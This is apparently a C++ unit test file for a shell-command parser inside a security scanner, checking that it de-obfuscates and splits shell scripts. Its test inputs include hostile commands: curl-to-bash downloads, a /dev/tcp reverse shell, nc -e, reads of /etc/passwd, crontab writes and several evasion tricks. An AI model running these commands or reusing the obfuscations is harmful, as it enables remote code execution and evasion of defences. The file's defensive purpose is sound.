#include "format/shell.h"

#include <gtest/gtest.h>

namespace lazaret::format {
namespace {

std::string texts(std::string_view script) {
  std::string all;
  for (const ShellCommand& command : parse_shell(script).commands) all += (all.empty() ? "" : " ; ") + command.text();
  return all;
}

TEST(Shell, QuotesAndEscapesAreTakenAway) {
  EXPECT_EQ(texts("cu'r'\"l\" -s http://192.0.2.1/a"), "curl -s http://192.0.2.1/a");
  EXPECT_EQ(texts("c\\url x"), "curl x");
  EXPECT_EQ(texts("$'\\x63\\x75rl' x"), "curl x");
  EXPECT_EQ(texts("a=cu; b=rl; $a$b -s x"), "curl -s x");
  EXPECT_EQ(texts("c$@url x"), "curl x");
  EXPECT_EQ(texts("{curl,-s,http://192.0.2.1/a}"), "curl -s http://192.0.2.1/a");
  EXPECT_EQ(texts("cat${IFS}/etc/passwd"), "cat /etc/passwd");
  EXPECT_EQ(texts("a=xbashx; ${a:1:4} -i"), "bash -i");
}

TEST(Shell, PipelinesAndListsAreTold) {
  const ShellScript script = parse_shell("curl -s http://192.0.2.1/x | bash -s; ls && rm x");
  ASSERT_EQ(script.commands.size(), 4u);
  EXPECT_EQ(script.commands[0].pipeline, script.commands[1].pipeline);
  EXPECT_NE(script.commands[1].pipeline, script.commands[2].pipeline);
  EXPECT_EQ(script.commands[3].program(), "rm");
}

TEST(Shell, CommentsAreNoCommands) { EXPECT_EQ(texts("# curl x | sh\nls # rm\necho a#b"), "ls ; echo a#b"); }

TEST(Shell, NestedTextIsParsed) {
  const ShellScript script = parse_shell("sh -c 'bash -c \"curl http://192.0.2.1/a | sh\"'");
  ASSERT_EQ(script.commands.size(), 4u);
  EXPECT_EQ(script.commands[0].program(), "curl");
  EXPECT_EQ(script.commands[0].chain, (std::vector<std::string>{"sh -c", "bash -c"}));
  EXPECT_EQ(texts("eval \"$(curl -s http://192.0.2.1/a)\""), "curl -s http://192.0.2.1/a ; eval ");
  EXPECT_EQ(parse_shell("bash <(curl -s http://192.0.2.1/a)").commands[0].nesting, ShellNesting::process);
}

TEST(Shell, StaticDecodingIsFollowed) {
  EXPECT_EQ(texts("eval $(echo Y3VybCB4IHwgc2g= | base64 -d)").substr(0, 4), "echo");
  const ShellScript script = parse_shell("eval $(echo Y3VybCB4IHwgc2g= | base64 -d)");
  bool found = false;
  for (const auto& command : script.commands) found |= command.program() == "curl";
  EXPECT_TRUE(found);
  bool known = false;
  EXPECT_EQ(static_output(parse_shell("echo -n 68656c6c6f | xxd -r -p"), 1, &known), "hello");
  EXPECT_TRUE(known);
  EXPECT_EQ(static_output(parse_shell("echo olleh | rev"), 1, &known), "hello\n");
  EXPECT_EQ(static_output(parse_shell("echo uryyb | tr a-z n-za-m"), 1, &known), "hello\n");
  static_output(parse_shell("curl x | base64 -d"), 1, &known);
  EXPECT_FALSE(known);
}

TEST(Shell, HereDocumentsBelongToTheirCommand) {
  const ShellScript script = parse_shell("cat > /tmp/x <<'EOF' && echo done\nline $1\nEOF\nls\n");
  ASSERT_EQ(script.commands.size(), 3u);
  EXPECT_EQ(script.commands[0].redirections[1].target.text, "line $1\n");
  EXPECT_EQ(script.commands[1].program(), "echo");
  EXPECT_EQ(script.commands[2].program(), "ls");
  EXPECT_EQ(texts("bash <<E\ncurl x | sh\nE\n"), "curl x ; sh ; bash");
}

TEST(Shell, RedirectionsAreTold) {
  const ShellScript script = parse_shell("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1");
  ASSERT_EQ(script.commands.size(), 1u);
  ASSERT_EQ(script.commands[0].redirections.size(), 2u);
  EXPECT_EQ(script.commands[0].redirections[0].operation, ">&");
  EXPECT_EQ(script.commands[0].redirections[0].target.text, "/dev/tcp/203.0.113.7/4444");
  EXPECT_EQ(script.commands[0].redirections[1].fd, 0);
}

TEST(Shell, ControlStructuresKeepAllBranches) {
  EXPECT_EQ(texts("if [ -f x ]; then curl a; else wget b; fi"), "[ -f x ] ; curl a ; wget b");
  EXPECT_EQ(texts("f() { nc -e sh x; }; f"), "nc -e sh x ; f");
  EXPECT_EQ(texts("for u in http://192.0.2.1/a; do curl $u; done"), "curl http://192.0.2.1/a");
}

TEST(Shell, WrappersAreTakenOff) {
  const ShellScript script = parse_shell("sudo -u root env A=b nohup timeout 5 ./x");
  EXPECT_EQ(script.commands[0].words[program_word(script.commands[0])].text, "./x");
}

TEST(Shell, ArgumentsSurviveQuoting) {
  const std::vector<std::string> arguments = {"/bin/sh", "-c", "echo 'a b' \"$x\" >> /mnt/etc/crontab"};
  const ShellScript script = parse_arguments(arguments);
  ASSERT_FALSE(script.commands.empty());
  EXPECT_EQ(script.commands.back().words[2].text, arguments[2]);
}

TEST(Shell, EveryPrefixOfAHostileScriptParses) {
  const std::string script = "a=$(echo `x \"$(y <(z))\" | base64 -d` <<< \"${v:-$w}\" | tr a-z n-za-m) && eval \"$'\\x41'\" {a,b} <<E\n$(q)\nE\nfor i in 1 2; do ((i++)); done";
  for (std::size_t size = 0; size <= script.size(); ++size) parse_shell(std::string_view(script).substr(0, size));
}

TEST(Shell, DeepNestingIsCutAndCheap) {
  std::string deep;
  for (int i = 0; i < 100000; ++i) deep += "$(";
  EXPECT_TRUE(parse_shell(deep).cut);
  std::string parentheses(200000, '(');
  parse_shell(parentheses);
  std::string evals = "x";
  for (int i = 0; i < 40; ++i) evals = "eval " + evals;
  parse_shell(evals);
}

}  // namespace
}  // namespace lazaret::format
